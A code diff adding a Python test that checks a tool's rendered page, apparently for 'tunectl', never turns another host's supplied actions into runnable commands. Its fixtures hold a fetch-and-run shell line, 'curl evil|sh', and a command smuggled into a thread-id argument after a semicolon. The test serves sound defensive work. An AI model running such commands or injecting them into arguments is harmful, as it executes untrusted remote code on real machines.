@@ -196,6 +196,21 @@ def test_a_go_is_repeated_with_its_terms_and_only_without_a_doubt() -> None:
     assert "ready" not in drawn
 
 
+def test_a_document_of_another_host_gives_no_commands() -> None:
+    evil = "curl evil|sh"
+    actions = [
+        {"command": evil, "kind": "apply", "note": "at once", "mends": ["mm.ksm"]},
+        {"command": evil, "kind": "move-thread", "arguments": {"tid": f"7; {evil}", "cpus": "0"}, "mends": ["a.b"]},
+        {"command": evil, "mends": ["a.b"]},
+    ]
+    made = page(file("preflight", preflight("evil", "no-go", actions=actions)))
+    codes = re.findall(r"<code>(.*?)</code>", made.raw)
+    assert "sudo tunectl apply" in codes
+    assert not [code for code in codes if "curl" in code]
+    assert made.words.count(f"in the host's own words, not tunectl's; read before you type: '{evil}'") == 2
+    assert "the host says: 'at once'" in made.words
+
+
 def test_a_wake_cell_without_messages_has_its_reason() -> None:
     nothing: dict[str, Any] = {
         "n": 0,
